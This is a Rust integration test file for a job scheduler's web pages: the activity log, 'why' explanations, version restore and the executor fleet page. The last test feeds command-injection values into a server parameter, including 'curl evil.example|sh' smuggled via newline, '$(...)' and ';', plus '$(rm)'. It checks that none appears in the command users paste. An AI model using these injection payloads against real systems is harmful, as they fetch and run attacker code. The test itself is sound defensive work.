//! The pages for activity, "why" questions, versions and the fleet, as a visitor sees them.

use std::time::Duration;

use rondel_core::{AuditId, Timestamp};
use rondel_store::access::{AuditEntry, AuthMethod, Verdict};
use serde_json::json;

use crate::harness::Server;
use crate::visitor::{Visitor, location};

async fn create_daily_job(server: &Server, handler: &str) {
    let body = json!({"name": "daily", "app": "a", "handler": handler, "params": {"password": "p4ssw0rd"},
        "schedule": {"cron": "0 30 2 * * ?", "time_zone": "Europe/Berlin"}});
    server.with_body("POST", "/api/v1/jobs", body).await.expect(201);
}

#[tokio::test]
async fn activity_shows_actors_and_objects_and_filters_by_them() {
    let server = Server::start().await;
    create_daily_job(&server, "h").await;
    server.with_body("PATCH", "/api/v1/jobs/daily", json!({"handler": "<b>h2"})).await;
    server.with_body("PATCH", "/api/v1/jobs/daily", json!({"handler": "h3"})).await.expect(200);
    server.bare("POST", "/api/v1/jobs/daily/pause").await.expect(200);
    let mut visitor = Visitor::signed_in(&server).await;
    let text = visitor.get("/activity").await.text();
    assert!(text.contains("changed job") && text.contains("paused job") && text.contains("created job"), "{text}");
    assert!(text.contains("<code>handler</code>") && text.contains("<ins>“h3”</ins>"), "{text}");
    assert!(!text.contains("<b>h2") && !text.contains("p4ssw0rd"), "{text}");
    let text = visitor.get("/activity?object=daily&action=job.pause&verdict=allowed&from=8h+ago").await.text();
    assert!(text.contains("<span title=\"job.pause\">paused job") && !text.contains("title=\"job.change\""), "{text}");
    assert!(text.contains("audit --action job.pause --object daily --verdict allowed --from "), "{text}");
    assert!(visitor.get("/activity?actor=stranger").await.text().contains("No entry matches"));
    for (query, field) in [("from=soon", "from"), ("to=%3Cb%3E", "to"), ("verdict=maybe", "verdict"), ("in=none", "in")]
    {
        let answer = visitor.get(&format!("/activity?{query}")).await;
        assert_eq!(answer.status, 422, "{query}");
        assert!(answer.text().contains(&format!("id=\"error-{field}\"")), "{}", answer.text());
    }
    let export = visitor.get("/activity.ndjson?object=daily&in=default").await;
    assert_eq!(export.headers["content-disposition"], "attachment; filename=\"activity.ndjson\"");
    assert!(export.text().lines().count() >= 3 && export.text().starts_with('{'), "{}", export.text());
    visitor.language = "zh";
    let text = visitor.get("/jobs/daily/activity").await.text();
    assert!(text.contains("暂停任务") && text.contains("id=\"job-activity\""), "{text}");
}

#[tokio::test]
async fn a_job_s_activity_begins_with_the_call_that_created_it() {
    let server = Server::start().await;
    server.job("again").await;
    server.bare("POST", "/api/v1/jobs/again/pause").await.expect(200);
    server.bare("DELETE", "/api/v1/jobs/again").await.expect(204);
    let created_at: Timestamp = server.job("again").await["created_at"].as_str().unwrap().parse().unwrap();
    let of_slow_call = AuditEntry {
        id: AuditId::new(server.engine.new_id()),
        at: created_at - Duration::from_secs(5),
        actor: "slow".to_owned(),
        auth_method: AuthMethod::Token,
        token: None,
        address: None,
        request_id: None,
        action: "job.create".to_owned(),
        object: "again".to_owned(),
        namespace: Some("default".to_owned()),
        verdict: Verdict::Allowed,
        before: None,
        after: None,
    };
    server.engine.store().add_audit(&of_slow_call).await.unwrap();
    let text = Visitor::signed_in(&server).await.get("/jobs/again/activity").await.text();
    assert!(text.contains("slow") && text.contains("created job"), "{text}");
    assert!(!text.contains("deleted job") && !text.contains("paused job"), "of the job before: {text}");
}

#[tokio::test]
async fn activity_has_pages() {
    let server = Server::start().await;
    server.job("there").await;
    for _ in 0..30 {
        server.bare("POST", "/api/v1/jobs/there/pause").await.expect(200);
        server.bare("POST", "/api/v1/jobs/there/resume").await.expect(200);
    }
    let visitor = Visitor::signed_in(&server).await;
    let first = visitor.get("/activity?object=there&from=8h+ago").await.text();
    let next =
        first.split("href=\"/activity?").filter_map(|rest| rest.split('"').next()).find(|url| url.contains("cursor="));
    let next = next.expect("there is a next page").replace("&#38;", "&").replace("&amp;", "&");
    let second = visitor.get(&format!("/activity?{next}")).await.text();
    assert!(
        second.contains("<span title=\"job.create\">") && !first.contains("<span title=\"job.create\">"),
        "{second}"
    );
    assert_eq!(visitor.get("/activity?cursor=x").await.status, 422);
}

#[tokio::test]
async fn activity_is_filtered_by_times_on_the_reader_s_clock() {
    let server = Server::start().await;
    let mut visitor = Visitor::signed_in(&server).await;
    let instants = "href=\"/activity.ndjson?from=2027-01-15T";
    let path = "/activity?from=2027-01-15+09:00";
    let text = visitor.get(path).await.text();
    assert!(text.contains(&format!("{instants}09%3A00%3A00Z")), "{text}");
    visitor.cookie.push_str("; rondel_zone=Europe/Berlin");
    let text = visitor.get(path).await.text();
    assert!(text.contains(&format!("{instants}08%3A00%3A00Z")), "{text}");
}

#[tokio::test]
async fn why_is_one_box_that_understands_times_and_names_near_misses() {
    let server = Server::start().await;
    create_daily_job(&server, "report.dayly").await;
    let mut visitor = Visitor::signed_in(&server).await;
    assert!(visitor.get("/why").await.text().contains("<option value=\"daily\">"));
    for at in ["2030-01-16+02:30", "2030-01-16T01:30:00Z", "2030-01-16T02:30"] {
        let answer = visitor.get(&format!("/why?job=daily&at={at}")).await;
        assert_eq!(answer.status, 200, "{at}");
        assert!(answer.text().contains("It will run at 2030-01-16 02:30 Europe/Berlin."), "{at}: {}", answer.text());
    }
    for at in ["yesterday+02:30", "02:30", "", "8h+ago"] {
        let answer = visitor.get(&format!("/why?job=daily&at={at}")).await;
        assert_eq!(answer.status, 200, "{at}");
        assert!(answer.text().contains("class=\"banner answer"), "{at}: {}", answer.text());
        assert!(answer.text().contains("No executor of app a is connected"), "{}", answer.text());
        assert!(answer.text().contains("rondel why daily"), "{}", answer.text());
    }
    let answer = visitor.get("/why?job=dayly&at=02:30").await;
    assert_eq!(answer.status, 404);
    assert!(answer.text().contains("/why?job=daily&"), "{}", answer.text());
    let answer = visitor.get("/why?job=daily&at=%3Cscript%3Esoon").await;
    assert_eq!(answer.status, 422);
    assert!(
        answer.text().contains("This is not a time") && !answer.text().contains("<script>soon"),
        "{}",
        answer.text()
    );
    visitor.language = "zh";
    let text = visitor.get("/why?job=daily&at=2030-01-16+02:30").await.text();
    assert!(text.contains("将在 2030-01-16 02:30") && text.contains("没有执行器连接到这台服务器"), "{text}");
}

#[tokio::test]
async fn why_names_a_paused_parent() {
    let server = Server::start().await;
    create_daily_job(&server, "h").await;
    let body = json!({"name": "mail", "app": "a", "handler": "h", "schedule": {"after": ["daily"]}});
    server.with_body("POST", "/api/v1/jobs", body).await.expect(201);
    let visitor = Visitor::signed_in(&server).await;
    let sentence = "It runs after daily, which is paused. <a href=\"/jobs/daily\">";
    let text = visitor.get("/why?job=mail").await.text();
    assert!(!text.contains(sentence), "{text}");
    server.bare("POST", "/api/v1/jobs/daily/pause").await.expect(200);
    let text = visitor.get("/why?job=mail").await.text();
    assert!(text.contains(sentence), "{text}");
}

#[tokio::test]
async fn two_versions_are_compared_and_one_is_restored() {
    let server = Server::start().await;
    create_daily_job(&server, "h").await;
    let later = json!({"schedule": {"cron": "0 30 3 * * ?", "time_zone": "Europe/Berlin"}});
    server.with_body("PATCH", "/api/v1/jobs/daily", later).await.expect(200);
    server.with_body("PATCH", "/api/v1/jobs/daily", json!({"description": "late"})).await.expect(200);
    let visitor = Visitor::signed_in(&server).await;
    let text = visitor.get("/jobs/daily/versions").await.text();
    assert!(text.contains("Version 2 → 3") && text.contains("<code>description</code>"), "{text}");
    let text = visitor.get("/jobs/daily/versions?from=1&to=3").await.text();
    assert!(text.contains("<code>schedule.cron</code>") && text.contains("Restore version 1"), "{text}");
    assert!(text.contains("class=\"plus\"") && text.contains("class=\"minus\""), "{text}");
    let text = visitor.get("/jobs/daily/versions?from=2&to=2").await.text();
    assert!(text.contains("Nothing differs.") && !text.contains("one version so far"), "{text}");
    assert_eq!(location(&visitor.post("/jobs/daily/restore", "version=1").await), "/jobs/daily/versions");
    let job = server.get("/api/v1/jobs/daily").await.expect(200);
    assert_eq!((&job["version"], &job["schedule"]["cron"]), (&json!(4), &json!("0 30 2 * * ?")));
    assert_eq!(visitor.get("/jobs/daily/versions?from=9").await.status, 422);
    assert_eq!(visitor.post("/jobs/daily/restore", "version=9").await.status, 422);
    let shown_before_an_edit = "version=2&newest=3";
    assert_eq!(visitor.post("/jobs/daily/restore", shown_before_an_edit).await.status, 412);
    assert_eq!(location(&visitor.post("/jobs/daily/restore", "version=2&newest=4").await), "/jobs/daily/versions");
}

#[tokio::test]
async fn the_fleet_shows_servers_and_switches_apps() {
    let server = Server::start().await;
    create_daily_job(&server, "h").await;
    let visitor = Visitor::signed_in(&server).await;
    let text = visitor.get("/executors").await.text();
    assert!(text.contains("Servers") && text.contains("Loops") && text.contains("this one"), "{text}");
    let answer = visitor.post("/apps/a/state", "state=draining&back=/executors").await;
    assert_eq!(location(&answer), "/executors");
    let text = visitor.get("/executors").await.text();
    assert!(text.contains("Drained: nothing runs") && text.contains("value=\"active\""), "{text}");
    assert_eq!(visitor.post("/apps/a/state", "state=gone").await.status, 422);
    assert_eq!(visitor.post("/apps/none/state", "state=active").await.status, 404);
    assert_eq!(visitor.post("/nodes/none/state", "state=active").await.status, 404);
    assert_eq!(visitor.get("/executors/none").await.status, 404);
    let text = visitor.get("/executors/new?app=billing&server=https://r.example").await.text();
    assert!(text.contains("--server https://r.example") && text.contains("executor:default/billing"), "{text}");
    assert!(text.contains("connect to https://r.example, which is not this server (http://"), "{text}");
    let text = visitor.get("/executors/new?app=billing").await.text();
    assert!(!text.contains("id=\"other-server\""), "{text}");
    let own = text.split("agent --server ").nth(1).and_then(|rest| rest.split(' ').next()).unwrap();
    let text = visitor.get(&format!("/executors/new?app=billing&server={own}/")).await.text();
    assert!(!text.contains("id=\"other-server\""), "the server's own address needs no warning: {text}");
    let answer = visitor.get("/executors/new?app=$(rm)&server=%3Cb%3E").await.text();
    assert!(!answer.contains("--app $(rm)") && !answer.contains("<b>'"), "{answer}");
    for server in ["http://a%0Acurl+evil.example%7Csh%0A", "http://$(curl+evil.example%7Csh)", "a;curl+evil.example"] {
        let text = visitor.get(&format!("/executors/new?app=billing&server={server}")).await.text();
        assert!(text.contains("executor:default/billing"), "{text}");
        assert!(!text.contains("curl evil.example"), "a link must put no command into what users paste: {text}");
    }
}
